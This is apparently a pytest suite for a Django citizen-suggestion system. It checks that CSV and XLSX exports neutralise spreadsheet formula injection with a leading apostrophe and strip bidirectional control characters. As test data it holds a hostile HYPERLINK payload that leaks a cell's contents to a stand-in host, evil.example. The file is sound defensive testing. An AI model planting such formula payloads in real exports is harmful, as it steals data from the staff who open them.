"""What a citizen typed never runs as a formula in a staff member's spreadsheet, whatever the format.

A title, content or name that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is taken for a formula when a CSV file is opened in Excel or WPS
(and when an XLSX cell holding it is edited). Every export — the suggestion
list as CSV and XLSX, at once or in the background, and the three registers —
writes such text behind an apostrophe, which spreadsheets show and keep as text.
"""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse

from activities.models import Activity, ActivityKind
from devtools.testing import factories as f
from stations.models import ReceptionDay, Visit

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def typed(start: str, what: str) -> str:
    return f"{start}{PAYLOAD}{what}"


def neutralised(start: str, what: str) -> str:
    return "'" + typed(start, what)


@pytest.fixture
def hostile(world):
    """One suggestion for each dangerous first character, in the staff's own station."""

    def make(start):
        return f.SuggestionFactory(
            station=world.station,
            title=typed(start, "标题"),
            content=typed(start, "内容"),
            submitter_name=typed(start, "名")[:40],
            received_at=dt.datetime(2026, 11, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai")),
        )

    return make


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize("start", DANGEROUS, ids=IDS)
def test_the_list_as_csv_writes_formula_text_behind_an_apostrophe(login, world, hostile, start):
    hostile(start)
    rows = csv_rows(login(world.staff).get(reverse("suggestions:export_csv")))
    title, content, name = rows[1][6], rows[1][7], rows[1][10]
    assert title == neutralised(start, "标题")
    assert content == neutralised(start, "内容")
    assert name == neutralised(start, "名")[:41]


@pytest.mark.parametrize("start", DANGEROUS, ids=IDS)
def test_the_list_as_xlsx_writes_formula_text_behind_an_apostrophe(login, world, hostile, start):
    hostile(start)
    rows = xlsx_rows(login(world.staff).get(reverse("suggestions:export_xlsx")))
    assert (rows[1][6], rows[1][7]) == (neutralised(start, "标题"), neutralised(start, "内容"))
    assert rows[1][10] == neutralised(start, "名")[:41]


@pytest.mark.parametrize("start", DANGEROUS, ids=IDS)
def test_the_background_list_export_writes_formula_text_behind_an_apostrophe(
    login, world, hostile, start, settings, django_capture_on_commit_callbacks
):
    settings.REGISTER_IMMEDIATE_ROWS = 0
    hostile(start)
    client = login(world.staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("oversight:list_export"))
    status = client.get(response.url + "status/").json()
    rows = xlsx_rows(client.get(status["download"]))
    assert (rows[1][6], rows[1][7]) == (neutralised(start, "标题"), neutralised(start, "内容"))


@pytest.mark.parametrize("start", DANGEROUS, ids=IDS)
def test_the_registers_write_formula_text_behind_an_apostrophe(login, world, hostile, start):
    hostile(start)
    day = ReceptionDay.objects.create(
        station=world.station, date=dt.date(2026, 11, 10), start_time=dt.time(9), end_time=dt.time(11)
    )
    Visit.objects.create(reception_day=day, visitor_name=typed(start, "访")[:40], summary=typed(start, "反映"))
    activity = Activity.objects.create(
        kind=ActivityKind.objects.create(name="调研"),
        date=dt.date(2026, 11, 10),
        station=world.station,
        title=typed(start, "活动")[:100],
        summary=typed(start, "纪要"),
    )
    activity.representatives.set([world.rep])
    client = login(world.staff)

    def export(key):
        response = client.post(reverse("oversight:register_export", args=[key]))
        assert response.status_code == 200
        return xlsx_rows(response)[1]

    suggestion = export("suggestions")
    assert (suggestion[5], suggestion[6], suggestion[8]) == (
        neutralised(start, "标题"),
        neutralised(start, "内容"),
        neutralised(start, "名")[:41],
    )
    visit = export("reception")
    assert (visit[4], visit[7]) == (neutralised(start, "访")[:41], neutralised(start, "反映"))
    line = export("activities")
    assert (line[3], line[5]) == (neutralised(start, "活动")[:101], neutralised(start, "纪要"))


def test_ordinary_text_and_numbers_are_written_as_they_are(login, world):
    f.SuggestionFactory(
        station=world.station, title="路灯不亮 = 安全隐患", content="1+1 路段", submitter_name="王-女士"
    )
    row = csv_rows(login(world.staff).get(reverse("suggestions:export_csv")))[1]
    assert (row[6], row[7], row[10]) == ("路灯不亮 = 安全隐患", "1+1 路段", "王-女士")


def test_bidirectional_controls_stored_before_never_reach_an_export(login, world):
    """Rows stored before input was cleaned: the export removes what would disguise them."""
    f.SuggestionFactory(station=world.station, title="路灯\u202e不亮", submitter_name="张\u2067三\u2069")
    client = login(world.staff)
    row = csv_rows(client.get(reverse("suggestions:export_csv")))[1]
    assert (row[6], row[10]) == ("路灯不亮", "张三")
    row = xlsx_rows(client.get(reverse("suggestions:export_xlsx")))[1]
    assert (row[6], row[10]) == ("路灯不亮", "张三")


def test_the_import_templates_example_category_stays_text(login, world):
    """The template's example row carries a category name typed in the admin."""
    f.CategoryFactory(name='=HYPERLINK("http://e.cn","类")')  # within the name's 30 characters
    response = login(world.staff).get(reverse("imports:template", args=[world.station.code]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://e.cn","类")'
